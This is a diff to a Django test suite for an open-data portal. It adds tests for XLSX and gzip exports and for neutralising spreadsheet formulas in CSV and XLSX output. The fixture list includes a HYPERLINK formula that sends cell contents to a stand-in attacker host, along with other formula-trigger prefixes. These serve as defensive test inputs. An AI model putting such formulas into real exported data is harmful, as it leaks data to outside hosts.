@@ -1,17 +1,20 @@
-"""Open data downloads (CSV, JSON, GeoJSON) and the open-data page."""
+"""Open data downloads (CSV, XLSX, JSON, GeoJSON) and the open-data page."""
 
 import csv
+import datetime
+import gzip
 import io
 import json
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from django.conf import settings
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from portal.site.opendata import BOM, DATASETS, get_dataset
+from portal.site.opendata import BOM, DATASETS, FORMATS, get_dataset
 from projects.models import Project
 from recommendations.models import Recommendation
 from tests import factories
@@ -20,9 +23,33 @@ from tests.helpers import LANGUAGES
 pytestmark = pytest.mark.django_db
 
 
-def body(response) -> str:
+def raw(response) -> bytes:
     assert response.status_code == 200
-    return b"".join(response.streaming_content).decode("utf-8")
+    return b"".join(response.streaming_content)
+
+
+def workbook(response) -> openpyxl.Workbook:
+    assert response["Content-Type"] == FORMATS["xlsx"]
+    return openpyxl.load_workbook(io.BytesIO(raw(response)))
+
+
+def sheet_rows(response) -> tuple[list[str], list[dict]]:
+    sheet = workbook(response).worksheets[0]
+    header, *rows = sheet.iter_rows(values_only=True)
+    return list(header), [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def body(response) -> str:
+    """The file as text; a workbook's cells one per line."""
+    if response["Content-Type"] == FORMATS["xlsx"]:
+        return "\n".join(
+            str(value)
+            for sheet in workbook(response).worksheets
+            for row in sheet.iter_rows(values_only=True)
+            for value in row
+            if value is not None
+        )
+    return raw(response).decode("utf-8")
 
 
 def csv_rows(response) -> tuple[list[str], list[dict]]:
@@ -256,6 +283,9 @@ def export_queries(client, url: str) -> int:
         ("/fr/projects/export.csv", project_with_everything),
         ("/fr/projects/export.json", project_with_everything),
         ("/fr/projects/export.geojson", project_with_everything),
+        ("/fr/projects/export.xlsx", project_with_everything),
+        ("/ar/associations/export.xlsx", association_with_everything),
+        ("/en/recommendations/export.xlsx", recommendation_with_everything),
         ("/en/recommendations/export.csv", recommendation_with_everything),
         ("/en/recommendations/export.json", recommendation_with_everything),
     ],
@@ -283,7 +313,8 @@ def test_open_data_page_lists_every_download_and_field(client, lang):
         for column in dataset.columns:
             assert f">{column.name}<" in html
     assert "Licence Ouverte" in html
-    assert f"/{lang}/calendar/communes/{commune.slug}.ics" in html
+    assert f"/{lang}/calendar/communes/commune.ics" in html  # the pattern
+    assert f"/{lang}/calendar/communes/{commune.slug}.ics" in html  # an example
     assert f"/{lang}/feeds/communes/{commune.slug}/meetings/" in html
     assert f"/{lang}/feeds/communes/{commune.slug}/recommendations/" in html
 
@@ -332,3 +363,169 @@ def test_exports_say_which_records_are_illustrative(client, make, url):
     flags = {int(row["id"]): row["illustrative"] for row in rows}
     assert flags[example.pk] != flags[reported.pk]
     assert flags[example.pk].lower() in ("true", "1", "yes")
+
+
+# --- Spreadsheets: formulas, XLSX ----------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTabbed",
+    "\rReturn",
+]
+
+
+def test_csv_neutralises_every_cell_that_a_spreadsheet_would_take_for_a_formula(client):
+    commune = factories.CommuneFactory()
+    for index, name in enumerate(FORMULAS):
+        association = factories.AssociationFactory(
+            commune=commune, name_ar=f"جمعية {index}", name_en=name, address=name
+        )
+        association.fields_of_activity.add(factories.FieldOfActivityFactory(name_en=name))
+    _names, rows = csv_rows(client.get("/en/associations/export.csv"))
+    assert len(rows) == len(FORMULAS)
+    for row, name in zip(sorted(rows, key=lambda r: int(r["id"])), FORMULAS, strict=True):
+        assert row["name"] == "'" + name
+        assert row["address"] == "'" + name
+        assert row["fields_of_activity"] == "'" + name
+        assert row["name_ar"].startswith("جمعية")  # text that is no formula stays as it is
+
+
+def test_csv_neutralises_formulas_in_projects_and_recommendations(client):
+    project = factories.ProjectFactory(title_en="=1+1", location_name="@A1")
+    recommendation = factories.RecommendationFactory(title_en="-cmd", text_en="+A1")
+    _n, (row,) = csv_rows(client.get("/en/projects/export.csv"))
+    assert (row["title"], row["location_name"]) == ("'=1+1", "'@A1")
+    _n, rows = csv_rows(client.get("/en/recommendations/export.csv"))
+    row = next(r for r in rows if int(r["id"]) == recommendation.pk)
+    assert (row["title"], row["text"]) == ("'-cmd", "'+A1")
+    assert project.pk
+
+
+def test_csv_keeps_negative_numbers_as_numbers(client):
+    factories.ProjectFactory(latitude=Decimal("28.983"), longitude=Decimal("-10.067"))
+    _n, (row,) = csv_rows(client.get("/en/projects/export.csv"))
+    assert Decimal(row["longitude"]) == Decimal("-10.067")
+
+
+@pytest.mark.parametrize("key", ["associations", "projects", "recommendations"])
+def test_xlsx_has_the_csv_columns_and_rows(client, key):
+    make = {
+        "associations": association_with_everything,
+        "projects": project_with_everything,
+        "recommendations": recommendation_with_everything,
+    }[key]
+    make(2)
+    response = client.get(f"/fr/{key}/export.xlsx")
+    assert response["Content-Disposition"] == f'attachment; filename="sharaka-{key}-fr.xlsx"'
+    header, rows = sheet_rows(response)
+    _csv_header, csv_records = csv_rows(client.get(f"/fr/{key}/export.csv"))
+    assert header == columns(key)
+    assert [row["id"] for row in rows] == [int(r["id"]) for r in csv_records]
+
+
+def test_xlsx_cells_are_never_formulas(client):
+    for index, name in enumerate(FORMULAS):
+        factories.AssociationFactory(name_ar=f"جمعية {index}", name_en=name)
+    book = workbook(client.get("/en/associations/export.xlsx"))
+    sheet = book.worksheets[0]
+    names = []
+    for row in sheet.iter_rows(min_row=2):
+        cell = row[columns("associations").index("name")]
+        assert cell.data_type == "s", cell.value
+        names.append(cell.value)
+    # XML reads a carriage return as a line feed; the text is otherwise intact.
+    assert sorted(names) == sorted(name.replace("\r", "\n") for name in FORMULAS)
+
+
+def test_xlsx_types_numbers_dates_and_booleans(client):
+    project = factories.ProjectFactory(
+        title_ar="مشروع المسبح المغطى",
+        progress=75,
+        budget=Decimal("1500000.50"),
+        start_date=datetime.date(2011, 3, 1),
+        longitude=Decimal("-10.067"),
+        latitude=Decimal("28.983"),
+        illustrative=True,
+    )
+    _header, (row,) = sheet_rows(client.get("/ar/projects/export.xlsx"))
+    assert row["title"] == "مشروع المسبح المغطى"
+    assert row["progress"] == 75
+    assert row["budget_mad"] == 1500000.5
+    assert row["longitude"] == pytest.approx(-10.067)
+    assert row["start_date"] == datetime.datetime(2011, 3, 1)
+    assert row["illustrative"] is True
+    assert datetime.datetime.fromisoformat(row["updated_at"]) == project.updated_at
+
+
+def test_arabic_xlsx_reads_right_to_left_and_french_left_to_right(client):
+    factories.AssociationFactory()
+    arabic = workbook(client.get("/ar/associations/export.xlsx"))
+    french = workbook(client.get("/fr/associations/export.xlsx"))
+    assert all(sheet.sheet_view.rightToLeft for sheet in arabic.worksheets)
+    assert not any(sheet.sheet_view.rightToLeft for sheet in french.worksheets)
+
+
+def test_xlsx_says_its_licence_and_filters(client):
+    project = factories.ProjectFactory()
+    book = workbook(client.get(f"/en/projects/export.xlsx?commune={project.commune.slug}"))
+    about = "\n".join(
+        str(value) for row in book.worksheets[1].iter_rows(values_only=True) for value in row
+    )
+    assert "Licence Ouverte" in about
+    assert project.commune.slug in about
+
+
+def test_xlsx_drops_characters_a_spreadsheet_cannot_hold(client):
+    factories.AssociationFactory(name_en="Amal\x07 association\x1b")
+    _header, (row,) = sheet_rows(client.get("/en/associations/export.xlsx"))
+    assert row["name"] == "Amal association"
+
+
+def test_xlsx_with_an_invalid_filter_is_refused(client):
+    response = client.get("/en/projects/export.xlsx?status=nonsense")
+    assert response.status_code == 400
+
+
+# --- Compression ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json", "geojson"])
+def test_text_exports_are_gzipped_for_a_client_that_accepts_it(client, fmt):
+    project_with_everything(latitude=Decimal("28.98"), longitude=Decimal("-10.06"))
+    plain = client.get(f"/fr/projects/export.{fmt}")
+    zipped = client.get(f"/fr/projects/export.{fmt}", HTTP_ACCEPT_ENCODING="gzip, deflate, br")
+    assert zipped.streaming
+    assert zipped["Content-Encoding"] == "gzip"
+    assert "Accept-Encoding" in zipped["Vary"]
+    assert not plain.has_header("Content-Encoding")
+    assert "Accept-Encoding" in plain["Vary"]
+    plain_text = raw(plain).decode()
+    unzipped = gzip.decompress(raw(zipped)).decode()
+    # Only the date the file was made may differ between the two downloads.
+    if fmt == "csv":
+        assert unzipped == plain_text
+    else:
+        assert json.loads(unzipped)["dataset"] == json.loads(plain_text)["dataset"]
+
+
+def test_export_is_not_gzipped_when_the_client_refuses_it(client):
+    response = client.get("/fr/projects/export.csv", HTTP_ACCEPT_ENCODING="gzip;q=0, identity")
+    assert not response.has_header("Content-Encoding")
+    assert raw(response).decode().startswith(BOM)
+
+
+def test_gzipped_csv_of_many_rows_is_much_smaller(client):
+    factories.ProjectFactory.create_batch(40, summary_ar="مشروع تنموي " * 20)
+    plain = raw(client.get("/ar/projects/export.csv"))
+    zipped = raw(client.get("/ar/projects/export.csv", HTTP_ACCEPT_ENCODING="gzip"))
+    assert len(zipped) * 4 < len(plain)
+
+
+def test_open_data_page_does_not_list_every_commune(client):
+    communes = factories.CommuneFactory.create_batch(5)
+    html = client.get("/en/open-data/").content.decode()
+    shown = [c for c in communes if f"/en/calendar/communes/{c.slug}.ics" in html]
+    assert len(shown) == 1
